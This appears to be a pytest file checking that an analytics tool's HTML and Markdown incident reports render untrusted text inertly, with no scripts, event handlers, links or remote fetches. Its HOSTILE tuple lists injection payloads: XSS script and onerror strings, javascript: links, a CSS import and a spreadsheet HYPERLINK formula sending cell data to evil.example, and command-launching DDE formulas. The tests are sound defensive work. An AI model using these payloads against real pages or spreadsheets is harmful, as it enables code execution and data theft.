"""Texts of documents stay texts in the files: nothing of them is run, fetched or followed, by a browser, a wiki or a spreadsheet."""

from __future__ import annotations

import re
from datetime import date

import pytest
from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

from analytics.reports.baseline import read_baseline
from analytics.reports.html import write_html
from analytics.reports.markdown import write_markdown
from analytics.reports.records import Outline
from analytics.settings import Settings
from analytics.store.database import Store
from tests.conftest import MakeStore
from tests.reports.conftest import compose, incident, item

HOSTILE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>fetch('http://evil.example')</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[click](javascript:alert(1))",
    "[click]: javascript:alert(1)",
    "![x](http://evil.example/x.png)",
    "<javascript:alert(1)>",
    "<http://evil.example>",
    "javascript:alert(1)",
    "</title></style><style>@import url(http://evil.example)</style>",
    "{{ 7*7 }} {% raw %} ${7*7}",
    "--> <!-- ]]>",
    "| a | b |\n|---|---|\n# heading",
    "data:text/html,<b>x</b>",
)  # fmt: skip


@pytest.fixture
def outline(make_store: MakeStore) -> Outline:
    """Every text that a document gives is hostile, and so is what changed since a report that had other texts."""
    return compose(hostile(make_store, 0), baseline=read_baseline("x", write_html(compose(hostile(make_store, 1)), Settings())))


def hostile(make_store: MakeStore, turn: int) -> Store:
    texts = HOSTILE[turn:] + HOSTILE[:turn]
    incidents = [
        incident(n, date(2026, 8, n), incident_id=f"{n} {text}", title=text, team=text, summary=text, root_cause=text, what_happened=text,
                 source_path=f"{text}.md", alert_name=text, time_to_resolve_min=n + turn)
        for n, text in enumerate(texts, 1)
    ]  # fmt: skip
    items = [item(n, f"key-{n}", action=text, owner=text, ticket=text, item_key=f"{n}") for n, text in enumerate(texts, 1)]
    return make_store(incidents=incidents, action_items=items)


def test_the_page_runs_and_fetches_nothing(outline: Outline) -> None:
    html = write_html(outline, Settings()).decode()
    page = BeautifulSoup(html, "lxml")
    assert [script.get("type") for script in page.find_all("script")] == ["application/json", None]
    assert len(page.find_all("style")) == len(page.find_all("title")) - len(page.select("svg title")) == 1
    assert not page.find_all(["img", "iframe", "object", "embed", "link", "base", "form"])
    for tag in page.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on")], tag.name
        assert re.match(r"#|$", str(tag.get("href", ""))), tag["href"]
        assert not tag.get("src")
        assert not tag.get("action")
    assert "url(http" not in "".join(style.get_text() for style in page.find_all("style"))
    text = " ".join(page.get_text().split())
    assert all(" ".join(one.split()) in text for one in HOSTILE)


def test_the_markdown_holds_no_html_link_or_picture(outline: Outline) -> None:
    markdown = write_markdown(outline, Settings()).decode()
    tokens = MarkdownIt("gfm-like", {"html": True, "linkify": False}).parse(markdown)
    children = [child for token in tokens for child in token.children or []]
    assert {child.type for child in children} <= {
        "text", "text_special", "code_inline", "strong_open", "strong_close", "em_open", "em_close", "hardbreak",
    }  # fmt: skip
    assert not [token for token in tokens if "html" in token.type or token.type in ("fence", "code_block")]
    headings = [token for token in tokens if token.type == "heading_open" and token.tag in ("h1", "h2")]
    assert len(headings) == 1 + len(outline.sections)
    shown = " ".join(" ".join(child.content for child in children).split())
    assert all(re.sub(r"\W", "", one) in re.sub(r"\W", "", shown) for one in HOSTILE)


def test_no_address_of_the_markdown_would_be_made_a_link(outline: Outline) -> None:
    """By programs that make links of what looks like one, such as GitHub."""
    tokens = MarkdownIt("commonmark").enable("table").parse(write_markdown(outline, Settings()).decode())
    plain = " ".join(child.content for token in tokens for child in token.children or [] if child.type != "code_inline")
    assert not re.search(r"https?://|www\.", plain)
